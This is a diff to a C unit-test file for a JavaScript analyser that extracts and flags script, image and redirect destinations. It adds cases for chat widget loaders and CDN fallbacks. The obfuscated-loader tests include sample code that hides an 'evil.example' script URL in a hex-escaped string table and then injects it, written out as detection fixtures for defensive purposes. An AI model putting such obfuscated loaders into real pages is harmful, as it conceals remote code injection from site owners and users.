@@ -132,6 +132,12 @@ static void google_tag(void **state)
 	       "})();");
 	d = only(r, WATCH_REF_SCRIPT, "https://ssl.google-analytics.com/ga.js");
 	assert_false(d->flags & OBF);
+	/* the scheme picked apart from the rest, and jQuery's local fallback */
+	r = rd("document.write('<script src=\"' + (location.protocol == 'https:' ? 'https:' : "
+	       "'http:') + '//cdn.example.net/x.js\"><\\/script>');"
+	       "window.jQuery || document.write('<script src=\"/js/jquery.min.js\"><\\/script>')");
+	assert_false(dest(r, WATCH_REF_SCRIPT, "https://cdn.example.net/x.js")->flags & OBF);
+	dest(r, WATCH_REF_SCRIPT, "/js/jquery.min.js");
 }
 
 static void matomo(void **state)
@@ -239,6 +245,44 @@ static void counters(void **state)
 	only(r, WATCH_REF_IMG, "https://pixel.example.net/p.gif?u=");
 }
 
+/* Chat widgets (Tawk.to, and Raychat and Goftino common on Iranian sites)
+** load their script from their own host. */
+static void chat_widgets(void **state)
+{
+	(void)state;
+	const struct watch_js_read *r = rd("var Tawk_API=Tawk_API||{}, Tawk_LoadStart=new Date();\n(function(){\nvar s1="
+					   "document.createElement(\"script\"),s0=document.getElementsByTagName(\"script"
+					   "\")[0];\ns1.async=true;\ns1.src='https://embed.tawk.to/5f0000000000000000000"
+					   "000/default';\ns1.charset='UTF-8';\ns1.setAttribute('crossorigin','*');\ns0."
+					   "parentNode.insertBefore(s1,s0);\n})();");
+	assert_false(only(r, WATCH_REF_SCRIPT, "https://embed.tawk.to/5f0000000000000000000000/default")
+			     ->flags &
+		     (OBF | COND));
+	r = rd("!function(){function t(){var t=document.createElement(\"script\");t.type=\"t"
+		"ext/javascript\",t.async=!0,localStorage.getItem(\"rayToken\")?t.src=\"https"
+		"://app.raychat.io/scripts/js/\"+o+\"?rid=\"+localStorage.getItem(\"rayToken\""
+		")+\"&href=\"+window.location.href:t.src=\"https://app.raychat.io/scripts/js/"
+		"\"+o+\"?href=\"+window.location.href;var e=document.getElementsByTagName(\"s"
+		"cript\")[0];e.parentNode.insertBefore(t,e)}var e=document,a=window,o=\"7c9d1"
+		"234-0000-4000-8000-abcdefabcdef\";\"complete\"==e.readyState?t():a.attachEve"
+		"nt?a.attachEvent(\"onload\",t):a.addEventListener(\"load\",t,!1)}();");
+	for (size_t i = 0; i < r->ndest; i++) {
+		assert_int_equal(r->dest[i].kind, WATCH_REF_SCRIPT);
+		assert_memory_equal(r->dest[i].url, "https://app.raychat.io/scripts/js/", 34);
+		assert_false(r->dest[i].flags & (OBF | COND));
+	}
+	/* its function is called once the id is known */
+	dest(r, WATCH_REF_SCRIPT,
+	     "https://app.raychat.io/scripts/js/7c9d1234-0000-4000-8000-abcdefabcdef?href=");
+	r = rd("!function(){var i=\"AbCdEf\",a=window,d=document;function g(){var g=d.create"
+		"Element(\"script\"),s=\"https://www.goftino.com/widget/\"+i,l=localStorage.g"
+		"etItem(\"goftino_\"+i);g.async=!0,g.src=l?s+\"?o=\"+l:s;d.getElementsByTagNa"
+		"me(\"head\")[0].appendChild(g);}\"complete\"===d.readyState?g():a.attachEven"
+		"t?a.attachEvent(\"onload\",g):a.addEventListener(\"load\",g,!1);}();");
+	assert_false(only(r, WATCH_REF_SCRIPT, "https://www.goftino.com/widget/AbCdEf?o=")->flags &
+		     (OBF | COND));
+}
+
 /* ------------------------------------------------------ obfuscated loaders */
 
 static void obfuscated_loaders(void **state)
@@ -291,6 +335,12 @@ static void obfuscated_loaders(void **state)
 	d = only(rd("var u='h!t!t!p!s!:!/!/!e!v!i!l!.!e!x!a!m!p!l!e!/!r'.replace(/!/g,'');"
 		    "window.location=u;"),
 		 WATCH_REF_REDIRECT, "https://evil.example/r");
+	assert_true(d->flags & OBF);
+	/* an obfuscator's string table, read by index */
+	d = only(rd("var _0x3f2a=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','evil.example','/o.js',"
+		    "'script'];var _0x1b=document['createElement'](_0x3f2a[3]);_0x1b['src']=_0x3f2a[0]+"
+		    "_0x3f2a[1]+_0x3f2a[2];document['head']['appendChild'](_0x1b);"),
+		 WATCH_REF_SCRIPT, "https://evil.example/o.js");
 	assert_true(d->flags & OBF);
 	/* a string built with += */
 	d = only(rd("var u='ht'; u+='tp://'; u+='evil.example/p'; document.location.href=u;"),
@@ -655,6 +705,7 @@ int main(void)
 		cmocka_unit_test(google_tag_manager), cmocka_unit_test(google_tag),
 		cmocka_unit_test(matomo),	      cmocka_unit_test(yandex_facebook_hotjar),
 		cmocka_unit_test(cloudflare),	      cmocka_unit_test(counters),
+		cmocka_unit_test(chat_widgets),
 		cmocka_unit_test(obfuscated_loaders), cmocka_unit_test(declared_functions),
 		cmocka_unit_test(eval_and_timers),
 		cmocka_unit_test(written_markup),     cmocka_unit_test(created_elements),
